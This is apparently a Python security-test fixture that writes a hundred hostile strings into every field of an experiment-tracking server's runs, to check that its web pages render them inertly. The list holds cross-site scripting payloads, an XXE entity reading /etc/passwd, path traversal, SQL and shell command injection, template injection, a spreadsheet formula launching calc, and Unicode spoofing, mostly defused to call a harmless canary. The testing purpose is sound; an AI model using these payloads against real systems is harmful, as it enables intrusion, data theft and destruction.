"""A hundred strings that want to be more than text, and the runs that carry them everywhere.

Whatever could execute calls ``canary()``, asks ``alert()`` or fetches from a listener of ours; whatever
could become an element has the class ``canary``.
"""

from __future__ import annotations

from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from browser_parts import Recorder

if TYPE_CHECKING:
    from outrider_server.background import Background

COUNT = 100
PROJECT = "hostile"
FIRST = 1_700_000_000
MOST = 256  # of a tag, and of an alert's title

ELEMENTS = """
<script>canary(1)</script>
<SCRIPT SRC=//AT/a.js></SCRIPT>
<script src="http://AT/b.js"></script>
</title><script>canary(2)</script>
</textarea><script>canary(3)</script>
</style><script>canary(4)</script>
</script><script>canary(5)</script>
--><script>canary(6)</script>
]]><script>canary(7)</script>
<scr<script>ipt>canary(8)</scr</script>ipt>
<img class=canary src=x onerror=canary(9)>
<img src="http://AT/c.png">
<img src=x:x onerror=alert(1)>
"><img class=canary src=x onerror=canary(10)>
'><img class=canary src=x onerror=canary(11)>
`><img class=canary src=x onerror=canary(12)>
" onmouseover="canary(13)" class="canary
' onfocus='canary(14)' autofocus='
<svg class=canary onload=canary(15)>
<svg><script>canary(16)</script></svg>
<svg><script href="data:text/javascript,canary(17)"/></svg>
<svg><animate onbegin=canary(18) attributeName=x dur=1s>
<svg><use href="http://AT/d.svg#x"/></svg>
<svg><foreignObject><body class=canary onload=canary(19)></foreignObject></svg>
<svg><a xlink:href="javascript:canary(20)"><text>press</text></a></svg>
<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>
<math><mtext></mtext><mglyph><style></math><img class=canary src onerror=canary(21)>
<noscript><p title="</noscript><img class=canary src=x onerror=canary(22)>">
<iframe class=canary src="javascript:canary(23)"></iframe>
<iframe class=canary srcdoc="<script>parent.canary(24)</script>"></iframe>
<iframe src="http://AT/e.html"></iframe>
<object class=canary data="data:text/html,<script>parent.canary(25)</script>"></object>
<embed class=canary src="http://AT/f.swf">
<body onload=canary(26)>
<details class=canary open ontoggle=canary(27)>
<video class=canary><source onerror=canary(28)></video>
<audio class=canary src=x onerror=canary(29)>
<input class=canary autofocus onfocus=canary(30)>
<select class=canary autofocus onfocus=canary(31)>
<form class=canary action="http://AT/g"><button>press</button></form>
<a class=canary href="javascript:canary(32)">press</a>
<a href="jAvAsCrIpT&colon;canary(33)">press</a>
<base href="http://AT/">
<link rel=stylesheet href="http://AT/h.css">
<meta http-equiv=refresh content="0;url=http://AT/i">
<style>@import "http://AT/j.css";</style>
<div class=canary style="background:url(http://AT/l)">
<marquee class=canary onstart=canary(34)>
<template><script>canary(35)</script></template>
<custom-element class=canary onpointerenter=canary(36)>
<x class=canary onanimationstart=canary(37) style="animation:spin">
&lt;script&gt;canary(38)&lt;/script&gt;
&#60;img src=x onerror=canary(39)&#62;
%3Cscript%3Ecanary(40)%3C/script%3E
＜script＞canary(41)＜/script＞
+ADw-script+AD4-canary(42)+ADw-/script+AD4-
""".strip().splitlines()

ADDRESSES = """
javascript:canary(43)
JaVaScRiPt:canary(44)
java\tscript:canary(45)
 javascript:canary(46)
javascript://%0acanary(47)
data:text/html,<script>canary(48)</script>
data:text/html;base64,PHNjcmlwdD5jYW5hcnkoNDkpPC9zY3JpcHQ+
vbscript:canary(50)
blob:http://AT/x
file:///etc/passwd
http://AT/m
//AT/n
\\\\AT\\o
/api/logout
../../../etc/passwd
..%2f..%2fetc%2fpasswd
?tab=console&filter=1#hash
""".strip("\n").splitlines()

TEMPLATES = """
{{constructor.constructor('canary(51)')()}}
${canary(52)}
#{canary(53)}
<%= canary(54) %>
{%% if canary(55) %%}
[[${canary(56)}]]
__proto__
constructor.prototype.canary
toString
');canary(57);('
";canary(58);"
`;canary(59);`
\\';canary(60)//
' OR '1'='1' --
"; DROP TABLE runs; --
$(touch canary)
`touch canary`
; touch canary #
=cmd|' /C calc'!A0
""".strip().splitlines()

SIGNS = [
    "\u202etxt.exe\u202c reversed",
    "\u0645\u0631\u062d\u0628\u0627 <b class=canary>عربى</b>",
    "👩‍👩‍👧‍👦🏴‍☠️🇺🇳" * 10,
    "Z\u0351\u036b\u0343a\u0363\u0369\u033dl\u036b\u033dg\u0300o",
    "\ufeff\u200b\u2060nothing to see",
    "line\u2028separator\u2029canary(61)",
    "<i class=canary>" * 60 + "deep",
]


def strings(listener: str) -> list[str]:
    """A hundred different ones; ``listener`` is the host and port of a server of ours."""
    found = [*ELEMENTS, *ADDRESSES, *TEMPLATES, *SIGNS]
    found = [one.replace("AT", listener) for one in found]
    found.append(("x<script>canary(62)</script>" * 40)[:1000])
    assert len(set(found)) == len(found) == COUNT
    return found


def as_project(text: str) -> str:
    """The string as a project may be called: without slashes, printable, 128 characters."""
    kept = "".join(one if one.isprintable() else "?" for one in text)
    return kept.replace("/", "∕").replace("\\", "∖").strip()[:128].strip()


def as_path(text: str) -> str:
    """The string as a path in the list of files: it has no folder ``..`` and no empty part."""
    parts = [part for part in text.split("/") if part not in ("", ".", "..")]
    return "/".join(parts) or "x"


@dataclass(frozen=True, slots=True)
class Planted:
    """Where the strings are: a project with a run a string, and one run that has all of them."""

    texts: list[str]
    cut: list[str]
    projects: list[str]
    paths: list[str]
    lines: list[str]


def plant(server: Background, texts: list[str]) -> Planted:
    """Write them to every place that a client can write to."""
    planted = Planted(
        texts,
        cut=[text[:MOST] for text in texts],
        projects=[as_project(text) for text in texts],
        paths=[as_path(text) for text in texts],
        lines=[text.replace("\t", " ") for text in texts],
    )

    def one(number: int) -> None:
        text = texts[number]
        run = Recorder(
            server, PROJECT, f"run{number:03d}", name=text, group=text, job_type=text,
            tags=[planted.cut[number]], notes=f"note {text}", host=text, program=text, argv=[text],
            created=FIRST + number,
        )  # fmt: skip
        run.write({"k": "config", "c": {"word": text}}, {"s": 1, "p": {"loss": number}})
        Recorder(server, planted.projects[number], "only")

    with ThreadPoolExecutor(8) as writers:
        whole = writers.submit(
            lambda: everything(
                Recorder(server, "hostile run", "all", notes="\n".join(texts)), planted
            )
        )
        list(writers.map(one, range(COUNT)))
        whole.result()
    return planted


def everything(run: Recorder, planted: Planted) -> None:
    """One run that has every string in every place of its page."""
    texts, paths, lines = planted.texts, planted.paths, planted.lines
    table = {
        "columns": [{"name": text, "type": "text"} for text in texts[:3]],
        "data": [[text, text, text] for text in texts],
        "rows": len(texts),
    }
    run.write(
        *({"s": step, "p": dict.fromkeys(texts, step)} for step in range(2)),
        {"k": "sys", "d": 1, "p": {"system/" + text: 1 for text in texts}},
        {"k": "config", "c": {text: text for text in texts}},
        {"k": "summary", "c": {"s:" + text: text for text in texts}},
        {"k": "console", "o": "out", "b": "".join(f"{line}\n" for line in lines)},
        *({"k": "alert", "title": text, "text": text, "level": "WARN"} for text in texts),
        *(
            {"k": "file", "path": path, "sha256": None, "size": 1, "role": "save",
             "state": "unreadable", "why": text, "type": text}
            for path, text in zip(paths, texts, strict=True)
        ),
        {"k": "media", "s": 1, "key": "table", "type": "table", "parts": [], "v": table},
        *(
            {"k": "media", "s": 1, "key": text, "type": "text",
             "parts": [{"v": {"text": text}, "caption": text}]}
            for text in texts
        ),
        {"k": "code", "a": 1, "host": "box", "primary": True, "c": code(texts)},
        {"k": "environment", "a": 1, "host": "box", "primary": True,
         "c": {"packages": {text: text for text in texts}, "container": texts[0]}},
    )  # fmt: skip
    run.end("failed", why={"type": texts[0], "message": texts[1], "traceback": "\n".join(texts)})


def code(texts: list[str]) -> dict[str, Any]:
    """What a lying client says of its commit."""
    return {
        "commit": "$(touch canary)", "branch": texts[0], "remote": "javascript:canary(63)",
        "dirty": True, "left_out": texts,
    }  # fmt: skip
